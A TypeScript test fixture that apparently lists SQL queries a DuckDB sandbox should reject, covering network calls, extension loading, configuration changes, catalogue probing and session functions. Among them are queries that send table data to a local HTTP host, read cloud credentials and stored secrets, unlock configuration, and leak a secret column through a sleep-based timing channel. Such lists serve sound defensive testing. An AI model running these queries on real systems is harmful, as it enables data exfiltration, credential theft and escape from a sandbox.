/** What is around the data: the network, extensions, configuration, the engine's catalogue, the session, the clock. */
import { attempts, type Row } from './attempt.ts';

const all = (wins: string, sqls: readonly string[]): Row[] => sqls.map((sql) => [sql, wins]);

const network = all('a connection, or an answer from elsewhere', [
  `select * from read_csv('http://127.0.0.1:9/x.csv')`, `select * from read_text('https://example.com/')`, `select * from 'https://example.com/x.parquet'`,
  `select * from 's3://bucket/x.parquet'`, `select * from read_parquet('s3://bucket/x.parquet')`, `select * from 'hf://datasets/x/y.csv'`, `select * from read_parquet('gcs://b/x')`,
  `select * from read_parquet('r2://b/x')`, `select * from read_text('az://c/x')`, `attach 'https://example.com/x.duckdb' as x`, `attach 'host=127.0.0.1' as p (type postgres)`,
  `create secret (type s3, key_id 'a', secret 'b')`, `create persistent secret x (type s3)`, `select * from duckdb_secrets()`, `select * from which_secret('s3://b/x', 's3')`,
  `select http_get('http://127.0.0.1/')`, `select * from load_aws_credentials()`, `select count(*) from read_csv('http://127.0.0.1/' || (select max(nick) from persons))`,
  `select * from quack_query('127.0.0.1', 'select 1')`, `copy persons to 'http://127.0.0.1:9/x.csv'`,
]);

const extensions = all('an extension installed, loaded or listed', [
  `install httpfs`, `load httpfs`, `force install spatial from community`, `install 'http://127.0.0.1/x.duckdb_extension'`, `load '/tmp/x.duckdb_extension'`, `update extensions`,
  `select * from duckdb_extensions()`, `select * from pragma_extensions()`, `call load_extension('httpfs')`, `select st_point(1, 2)`, `select load_extension('x')`,
]);

const configuration = all('a setting read or changed', [
  `set enable_external_access = true`, `set lock_configuration = false`, `reset lock_configuration`, `set memory_limit = '100GB'`, `set threads = 64`, `set disabled_filesystems = ''`,
  `set search_path = 'x'`, `set schema = 'x'`, `use "vault.persons"`, `set variable x = (select max(nick) from persons)`, `select getvariable('x')`, `set timezone = 'Asia/Shanghai'`,
  `pragma enable_profiling`, `pragma enable_verification`, `pragma disable_optimizer`, `pragma memory_limit = '1GB'`, `pragma database_list`, `pragma show_tables`, `pragma table_info('rows')`,
  `select current_setting('memory_limit')`, `select current_setting('home_directory')`, `select * from duckdb_settings()`, `select * from enable_peg_parser()`, `select * from disable_peg_parser()`,
  `select * from enable_profiling()`, `select * from enable_logging()`, `call enable_logging('QueryLog')`, `select * from disable_logging()`, `call truncate_duckdb_logs()`, `select * from duckdb_logs`,
  `select * from duckdb_log_contexts()`, `select * from checkpoint()`, `select * from force_checkpoint('vault.persons')`, `select set_config('a', 'b', false)`, `select write_log('x')`,
  `select count(*) from persons p, enable_peg_parser()`, `with x as (select * from enable_profiling()) select count(*) from persons`,
]);

const catalogue = all('names, files, statistics or text that the engine keeps', [
  ...['duckdb_tables', 'duckdb_columns', 'duckdb_databases', 'duckdb_functions', 'duckdb_views', 'duckdb_constraints', 'duckdb_indexes', 'duckdb_memory', 'duckdb_optimizers', 'duckdb_prepared_statements',
    'duckdb_schemas', 'duckdb_sequences', 'duckdb_temporary_files', 'duckdb_types', 'duckdb_variables', 'duckdb_keywords', 'duckdb_external_file_cache', 'duckdb_dependencies', 'duckdb_approx_database_count',
    'pragma_database_size', 'pragma_platform', 'pragma_version', 'pragma_collations', 'pragma_show', 'pragma_user_agent', 'pragma_metadata_info', 'test_all_types', 'sql_auto_complete'].map((name) => `select * from ${name}()`),
  `select * from pragma_storage_info('rows')`, `select * from pragma_storage_info('vault.persons.main.rows')`, `select * from pragma_table_info('rows')`, `select * from duckdb_table_sample('rows')`,
  `select * from information_schema.tables`, `select * from information_schema.columns`, `select * from pg_catalog.pg_class`, `select * from pg_class`, `select * from sqlite_master`, `select * from sqlite_schema`,
  `select * from pg_tables`, `select * from duckdb_tables`, `select * from "information_schema"."schemata"`, `select * from pg_catalog.pg_stats`,
  `show tables`, `show all tables`, `show databases`, `describe persons`, `summarize persons`, `from (describe persons)`, `select * from (summarize persons)`, `with s as (from (summarize persons)) select min, max from s`,
  `select * from (show tables)`, `select (select max(max) from (summarize persons))`, `explain select * from persons`, `explain analyze select * from persons`, `select * from (explain select * from persons)`,
  `select count(*) from "vault.persons"."rows"`, `select count(*) from "vault.persons".main."rows"`, `select count(*) from rows`, `select count(*) from "rows"`, `select count(*) from vault.persons.rows`,
  `select count(*) from memory.main.persons`, `select count(*) from temp.persons`, `select count(*) from main.persons`,
]);

const session = all('facts about the process, the session, the query or the clock', [
  'version()', 'current_schema()', 'current_schemas(true)', 'current_database()', 'current_catalog()', 'current_user', 'session_user', 'user', 'current_role', 'current_query()', 'current_query_id()', 'current_connection_id()',
  'current_transaction_id()', 'txid_current()', 'now()', 'current_date', 'current_time', 'current_timestamp', 'localtimestamp', 'today()', 'get_current_timestamp()', 'transaction_timestamp()', 'random()', 'uuid()', 'gen_random_uuid()',
  'uuidv7()', 'setseed(0.5)', `getenv('HOME')`, `getenv('PATH')`, 'pg_backend_pid()', `in_search_path('memory', 'main')`, `pg_get_viewdef(1)`, `nextval('s')`, `currval('s')`, `has_table_privilege('persons', 'select')`,
  `col_description(1, 1)`, `pg_typeof(1)`, `typeof(1)`, `sleep_ms(10)`, `pg_sleep(1)`, `error('x')`, `age(timestamp '2020-01-01')`, `shobj_description(1, 'x')`, `inet_client_addr()`, `pg_postmaster_start_time()`,
].map((call) => `select ${call}`));

const inside = all('the same below the gate', [
  `select district, count(*) from persons where current_query() like '%10%' group by district`, `select count(*) from persons where random() < 0.5`, `select count(*) from persons where age(seen) > interval 1 year`,
  `select count(*) from persons where seen < now()`, `select count(*) from persons where getenv('HOME') is null`, `select sum(random() * income) from persons`, `select count(*) from persons where uuid() > nick`,
  `select count(*) from persons where sleep_ms(case when secret then 1000 else 0 end) is null`, `select count(*) from persons where typeof(nick) = 'VARCHAR'`,
]);

export const SURROUNDINGS = [
  ...attempts('network', network), ...attempts('extension', extensions), ...attempts('configuration', configuration), ...attempts('catalogue', catalogue), ...attempts('session', [...session, ...inside]),
];
